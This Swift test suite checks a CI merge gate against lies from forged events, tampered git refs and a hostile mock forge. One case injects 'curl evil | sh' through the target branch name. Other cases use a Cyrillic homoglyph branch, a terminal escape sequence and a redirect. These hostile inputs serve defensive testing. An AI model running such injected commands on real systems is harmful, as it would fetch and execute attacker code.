import Support
import Testing

/// One lie that reaches the gate: by the CI's event, by what git fetched before it, or by the forge that it publishes
/// to.
struct GateLie: Sendable, CustomTestStringConvertible {
  let says: String
  /// Members of the event's request that are replaced, with JSON.
  var head = "$HEAD"
  var base = "\"staging\""
  var repository = "\"stagex/stagex\""
  var event = "pull_request_target"
  /// Refs of the CI's clone, as a lying server filled it.
  var refs: [String: String] = [:]
  /// Of the forge, where the answer is published.
  var rules: [String] = []
  var words: [String] = ["--publish"]
  let status: Int32
  var text = ""
  /// Which state of the judged head the forge must have in the end; nil for none.
  var published: String?

  var testDescription: String { says }

  private static let posts = #""method": "POST", "path": "/statuses/""#
  private static let comments = #""path": "/issues/1/comments$""#

  static let all = [
    // What is judged.
    GateLie(
      says: "the request's ref holds a better head than the event", refs: ["refs/pull/1/head": "$SECOND"], status: 1,
      text: "judged is the event's head", published: "failure"),
    GateLie(
      says: "the event is about a commit that nobody has", head: "$NONE", status: 2,
      text: "which is not in this clone"),
    GateLie(says: "the event's head is a file", head: "$BLOB", status: 2, text: "which is not in this clone"),
    GateLie(says: "the event's head is a branch's name", head: "staging", status: 64),
    GateLie(says: "the event's head is an option", head: "--all", status: 64),
    GateLie(says: "the event is another repository's", repository: "\"eve/stagex\"", status: 64),
    GateLie(says: "the event is of another kind", event: "issue_comment", status: 64),
    GateLie(
      says: "the target is a branch that its own rules protect", base: "\"trap\"",
      refs: ["refs/remotes/origin/trap": "$EVIL"], status: 64, text: "is not protected here"),
    GateLie(
      says: "the target is staging with a Cyrillic letter", base: "\"st\\u0430ging\"",
      refs: ["refs/remotes/origin/st\u{430}ging": "$EVIL"], status: 64),
    GateLie(says: "the target holds a command", base: "\"x\\\"; curl evil | sh; \\\"\"", status: 64),
    GateLie(says: "the target is the remote's HEAD", base: "\"HEAD\"", status: 64),
    GateLie(
      says: "the server showed staging at a commit by nobody",
      refs: ["refs/remotes/origin/staging": "$EVIL", "refs/pull/1/head": "$EVILHEAD"], status: 1),
    GateLie(
      says: "the server showed staging at the request", refs: ["refs/remotes/origin/staging": "$HEAD"], status: 1),
    GateLie(
      says: "the server showed staging with other people", refs: ["refs/remotes/origin/staging": "$NOBODY"], status: 1),
    GateLie(
      says: "the server showed staging as it was", refs: ["refs/remotes/origin/staging": "$START"], status: 1,
      published: "failure"),
    GateLie(
      says: "the server showed staging below the trust root", refs: ["refs/remotes/origin/staging": "$BELOW"], status: 1
    ),
    GateLie(says: "the server showed no staging", refs: ["refs/remotes/origin/staging": ""], status: 2),
    // Where it is published. The verdict is the same, whatever the forge says.
    GateLie(
      says: "the forge does not answer", rules: [#"{"path": "^/api/", "do": {"delay": 30}}"#], status: 1,
      text: "not published: "),
    GateLie(
      says: "the forge falls silent after the first status", rules: [#"{\#(posts), "skip": 1, "do": {"delay": 30}}"#],
      status: 1, text: "not published: "),
    GateLie(
      says: "the forge sends the status on to another host",
      rules: [#"{\#(posts), "do": {"reply": {"status": 307, "headers": {"Location": "http://127.0.0.2:1/"}}}}"#],
      status: 1, text: "sends us on to"),
    GateLie(
      says: "the forge refuses in words that clear the screen",
      rules: [#"{\#(posts), "do": {"reply": {"status": 403, "body": "{\"message\": \"\\u001b[2Jno\"}"}}}"#], status: 1,
      text: #"\x1b[2Jno"#),
    GateLie(
      says: "the forge says that it was green", rules: [#"{\#(posts), "do": {"patch": {"status": "success"}}}"#],
      status: 1, published: "failure"),
    GateLie(
      says: "the list of comments never ends", rules: [#"{\#(comments), "method": "GET", "do": {"endless": true}}"#],
      status: 1, text: "too large", published: "failure"),
    GateLie(
      says: "the list of comments is a page",
      rules: [#"{\#(comments), "method": "GET", "do": {"reply": {"body": "<html>"}}}"#], status: 1,
      text: "not published: ", published: "failure"),
  ]
}

extension ForgeLieWorld {
  func gate(_ lie: GateLie, _ location: SourceLocation = #_sourceLocation) throws {
    try restore()
    let clone = try freshClone()
    let ids = places.filter { $0.key != "NONE" && $0.key != "BLOB" && $0.key != "TREE" }.values.sorted()
    try Tool.succeed("git", ["-C", clone, "fetch", "-q", forge.path(Self.standIn)] + ids)
    try Tool.succeed("git", ["-C", clone, "update-ref", "refs/pull/1/head", places["HEAD"]!])
    for (ref, place) in lie.refs {
      try Tool.succeed("git", ["-C", clone, "update-ref"] + (place.isEmpty ? ["-d", ref] : [ref, filled(place)]))
    }
    let event = """
      {"action": "synchronize", "number": 1, "pull_request": {"number": 1, "title": "x", \
      "head": {"sha": "\(filled(lie.head))", "ref": "topic", "repo": null},
       "base": {"ref": \(lie.base), "sha": "\(filled("$START"))", "repo": {"full_name": \(lie.repository)}}}}
      """
    try CosignServer.write("\(clone)/.git/event.json", Array(event.utf8))
    let environment = [
      "CI": "true", "FORGEJO_EVENT_NAME": lie.event, "FORGEJO_EVENT_PATH": "\(clone)/.git/event.json",
      "FORGEJO_REPOSITORY": "stagex/stagex",
      "FORGEJO_API_URL": "\(forge.url)/api/v1", "MAINT_TOKEN": forge.token(of: "alice"),
    ]
    let told = ForgeLie(says: lie.says, rules: lie.rules)
    let result = try meet(told, ["gate"] + lie.words, in: clone, extra: environment)
    #expect(
      result.status == lie.status && result.all.contains(lie.text), "\(lie.says): \(result.status) \(result.all)",
      sourceLocation: location)
    let states = try forge.forge("show").matches(of: #/"status": "(\w+)"/#).map { String($0.1) }
    #expect(states.last { $0 != "pending" } == lie.published, "\(lie.says): \(states)", sourceLocation: location)
    if lie.status != 0 { #expect(!states.contains("success"), "\(lie.says): \(states)", sourceLocation: location) }
  }
}

/// The gate of a CI, lied to. The honest forge, with a request that may be merged, is the twin.
@Suite(
  .enabled(
    if: ForgeLie.areAsked && VirtualCard.isPossible && TestForge.isPossible, "takes minutes: set STAGEX_MAINT_LIES=1")
)
struct GateLiesTests {
  @Test func `Of the lies that reach the gate each is told, or fools nobody`() throws {
    let world = try ForgeLieWorld()
    for lie in GateLie.all { try world.gate(lie) }
    try world.gate(GateLie(says: "none, of a request that lacks people", status: 1, published: "failure"))
    try world.gate(
      GateLie(says: "none", head: "$SECOND", refs: ["refs/pull/1/head": "$SECOND"], status: 0, published: "success"))
  }
}
